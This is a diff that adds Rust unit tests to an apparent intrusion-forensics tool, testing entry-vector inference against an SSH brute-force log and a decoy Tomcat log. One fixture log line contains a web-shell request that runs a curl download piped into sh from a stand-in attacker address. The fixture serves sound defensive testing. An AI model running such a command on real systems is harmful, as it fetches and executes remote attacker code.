@@ -292,3 +292,78 @@ fn unknown(kit: &kit::Kit, inp: &Inputs, weaker: usize) -> Candidate {
 pub fn subjects(f: &Finding) -> impl Iterator<Item = &Subject> {
     f.iter_subjects()
 }
+
+#[cfg(test)]
+mod tests {
+    use minetrace_schemas::findings::{EntryVector, Severity};
+
+    use crate::detect::finding::{file_subject, finding, FindingExt};
+    use crate::detect::rules;
+    use crate::indicators::Indicators;
+    use crate::model::fixture;
+
+    /// Root's password guessed from 198.51.100.7 (25 failures, then a login) ten minutes before the kit
+    /// file was written (the fixtures' mtime, 2023-11-14 22:13:20 UTC).
+    fn auth_log() -> Vec<u8> {
+        let mut log = Vec::new();
+        for i in 0..25 {
+            log.extend_from_slice(
+                format!("Nov 14 22:0{}:{:02} web-01 sshd[{}]: Failed password for root from 198.51.100.7 port {} ssh2\n", i / 10, i, 900 + i, 40000 + i)
+                    .as_bytes(),
+            );
+        }
+        log.extend_from_slice(b"Nov 14 22:03:10 web-01 sshd[990]: Accepted password for root from 198.51.100.7 port 41000 ssh2\n");
+        log
+    }
+
+    /// A request that runs a download piped into a shell, from another address, a minute before the kit
+    /// (after an ordinary one):
+    /// the story a log written by the intruder would tell.
+    const CRAFTED: &[u8] = b"10.0.0.20 - - [14/Nov/2023:21:58:02 +0000] \"GET /index.jsp HTTP/1.1\" 200 143\n\
+203.0.113.88 - - [14/Nov/2023:22:12:20 +0000] \"GET /mgmt/cmd.jsp?c=curl%20-fsSL%20http%3A%2F%2F203.0.113.88%2Ft.sh%7Csh HTTP/1.1\" 200 38\n";
+
+    fn entry(log_path: &[u8]) -> Vec<minetrace_schemas::findings::EntryCandidate> {
+        let kit = fixture::file(b"/tmp/.k/xmr", Some(b"\x7fELF stand-in"));
+        let miner = finding(&rules::RUN_010, Severity::High).subject(file_subject(&kit.0));
+        let files = vec![
+            fixture::file(b"/var/log/auth.log", Some(&auth_log())),
+            fixture::file(log_path, Some(CRAFTED)),
+            kit,
+        ];
+        // The intruder's process names /tmp/x as its Tomcat base, so /tmp/x/logs/ looks like Tomcat's.
+        let decoy = fixture::process(
+            4242,
+            1,
+            0,
+            b"/tmp/.k/xmr",
+            &[
+                &b"/tmp/.k/xmr"[..],
+                &b"-Dcatalina.base=/tmp/x"[..],
+                &b"org.apache.catalina.startup.Bootstrap"[..],
+            ],
+        );
+        let model = fixture::model_with_processes(files, vec![], vec![decoy]);
+        super::infer(&model, &Indicators::builtin(), &[miner])
+    }
+
+    #[test]
+    fn a_log_an_intruders_command_line_points_at_does_not_shape_the_entry() {
+        let crafted = entry(b"/tmp/x/logs/localhost_access_log.2023-11-14.txt");
+        let first = crafted.first().expect("a candidate");
+        assert_eq!(first.vector, EntryVector::SshBruteForce, "{crafted:#?}");
+        assert!(
+            crafted
+                .iter()
+                .all(|c| c.vector != EntryVector::WebApplication
+                    && c.evidence.iter().all(|e| !e.contains("/tmp/x/"))),
+            "{crafted:#?}"
+        );
+        // The same lines in a log of the host's own Tomcat are read and weighed: what the test above
+        // shows is the directory refused, not a request the inference ignores.
+        let real = entry(b"/var/log/tomcat9/localhost_access_log.2023-11-14.txt");
+        assert!(
+            real.iter().any(|c| c.vector == EntryVector::WebApplication),
+            "{real:#?}"
+        );
+    }
+}
